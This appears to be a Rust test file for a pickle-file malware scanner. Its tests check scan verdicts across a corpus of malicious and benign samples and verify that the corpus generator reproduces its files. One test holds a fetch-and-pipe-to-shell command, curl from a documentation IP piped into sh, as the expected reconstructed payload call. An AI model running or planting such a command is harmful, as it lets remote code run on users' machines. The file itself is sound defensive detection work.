//! The generated corpus: every file gets its expected verdict; 100% of malicious files are
//! flagged dangerous and none of the benign ones; the generator reproduces the committed bytes.

use std::path::{Path, PathBuf};

use spawnguard_scan::{scan_path, Verdict};

fn corpus_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus")
}

struct Entry {
    file: String,
    expected: Verdict,
    evasion: String,
}

fn manifest() -> Vec<Entry> {
    let text = std::fs::read_to_string(corpus_dir().join("manifest.json"))
        .expect("corpus/manifest.json is committed");
    let v: serde_json::Value = serde_json::from_str(&text).expect("manifest is JSON");
    let files = v["files"].as_array().expect("manifest has files");
    files
        .iter()
        .map(|f| Entry {
            file: f["file"].as_str().expect("file").to_string(),
            expected: match f["expected"].as_str().expect("expected") {
                "safe" => Verdict::Safe,
                "suspicious" => Verdict::Suspicious,
                "dangerous" => Verdict::Dangerous,
                other => panic!("bad expected verdict {other}"),
            },
            evasion: f["evasion"].as_str().unwrap_or("").to_string(),
        })
        .collect()
}

#[test]
fn every_corpus_file_gets_its_expected_verdict() {
    let entries = manifest();
    assert!(
        entries.len() >= 60,
        "corpus unexpectedly small: {}",
        entries.len()
    );
    let (mut mal, mut mal_hit, mut benign, mut benign_dangerous, mut benign_suspicious) =
        (0, 0, 0, 0, 0);
    let mut wrong = Vec::new();
    for e in &entries {
        let r = scan_path(&corpus_dir().join(&e.file));
        match e.expected {
            Verdict::Dangerous => {
                mal += 1;
                if r.verdict == Verdict::Dangerous {
                    mal_hit += 1;
                }
            }
            Verdict::Safe => {
                benign += 1;
                if r.verdict == Verdict::Dangerous {
                    benign_dangerous += 1;
                }
                if r.verdict == Verdict::Suspicious {
                    benign_suspicious += 1;
                }
                // benign files must also parse cleanly
                if !r.errors.is_empty() {
                    wrong.push(format!(
                        "{}: benign file has errors: {:?}",
                        e.file, r.errors
                    ));
                }
            }
            Verdict::Suspicious => {}
        }
        if r.verdict != e.expected {
            wrong.push(format!(
                "{} ({}): expected {}, got {} {:?}",
                e.file, e.evasion, e.expected, r.verdict, r.findings
            ));
        }
    }
    eprintln!(
        "corpus: {mal_hit}/{mal} malicious flagged dangerous; {benign_dangerous}/{benign} benign dangerous, {benign_suspicious}/{benign} benign suspicious"
    );
    assert!(
        mal >= 40 && benign >= 20,
        "corpus must have both classes: {mal} malicious, {benign} benign"
    );
    assert_eq!(
        mal_hit, mal,
        "every malicious file must be flagged dangerous"
    );
    assert_eq!(
        benign_dangerous, 0,
        "no benign file may be flagged dangerous"
    );
    assert!(wrong.is_empty(), "mismatches:\n{}", wrong.join("\n"));
}

#[test]
fn dangerous_findings_carry_the_reconstructed_call() {
    for e in manifest()
        .iter()
        .filter(|e| e.expected == Verdict::Dangerous)
    {
        let r = scan_path(&corpus_dir().join(&e.file));
        let calls: Vec<&str> = r.dangerous().filter_map(|f| f.call.as_deref()).collect();
        // every payload in the corpus calls its dangerous global, except the bare dunder import
        if e.file.contains("dotted_dunder") {
            continue;
        }
        assert!(
            !calls.is_empty(),
            "{}: no reconstructed call in {:?}",
            e.file,
            r.findings
        );
    }
    let r = scan_path(&corpus_dir().join("files/mal_stack_global_memo.pkl"));
    let calls: Vec<&str> = r.dangerous().filter_map(|f| f.call.as_deref()).collect();
    assert_eq!(
        calls,
        vec![r#"os.system("curl -s http://203.0.113.7/x.sh | sh")"#]
    );
    assert!(r
        .string_literals
        .iter()
        .any(|l| l == "curl -s http://203.0.113.7/x.sh | sh"));
    let cmdline = "/bin/sh -c curl -s http://203.0.113.7/x.sh | sh";
    assert_eq!(
        r.literals_in(cmdline, 6),
        vec!["curl -s http://203.0.113.7/x.sh | sh"]
    );
}

#[test]
fn generator_reproduces_the_committed_corpus() {
    let python = std::env::var("PYTHON").unwrap_or_else(|_| "python3".into());
    let out = std::env::temp_dir().join(format!("spawnguard-corpus-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&out);
    let status = std::process::Command::new(&python)
        .arg(corpus_dir().join("generate.py"))
        .arg(&out)
        .status();
    let status = match status {
        Ok(s) => s,
        Err(e) if std::env::var_os("SPAWNGUARD_NO_PYTHON").is_some() => {
            // explicit opt-out only: never skipped silently
            eprintln!("NOTICE: corpus reproduction NOT checked ({python}: {e}); SPAWNGUARD_NO_PYTHON is set");
            return;
        }
        Err(e) => panic!("cannot run {python} ({e}); install python3 or set SPAWNGUARD_NO_PYTHON=1 to skip this check explicitly"),
    };
    assert!(status.success(), "generate.py failed");
    let fresh = std::fs::read(out.join("manifest.json")).expect("fresh manifest");
    let committed = std::fs::read(corpus_dir().join("manifest.json")).expect("committed manifest");
    assert!(
        fresh == committed,
        "manifest.json differs from a fresh run of generate.py"
    );
    for e in manifest() {
        let a = std::fs::read(out.join(&e.file)).expect("fresh file");
        let b = std::fs::read(corpus_dir().join(&e.file)).expect("committed file");
        assert!(a == b, "{} differs from a fresh run of generate.py", e.file);
    }
    let _ = std::fs::remove_dir_all(&out);
}
